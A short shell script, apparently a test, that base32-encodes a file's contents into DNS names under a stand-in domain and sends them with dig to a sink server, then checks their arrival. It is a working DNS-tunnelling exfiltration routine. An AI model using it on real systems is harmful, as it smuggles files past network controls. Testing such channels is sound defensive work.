. "$(dirname "$0")/../lib/check.sh"
R=$(find "$STORE" -type f -size +3k | sort | tail -n 1)
base32 -w 48 < "$R" | head -n 60 | tr -d = | sed 's/$/.t.example/' > "$WORK/names"
dig "@$SINK" +tcp +keepopen +noedns +tries=1 -f "$WORK/names" > /dev/null
arrived "$WORK/got" 3000
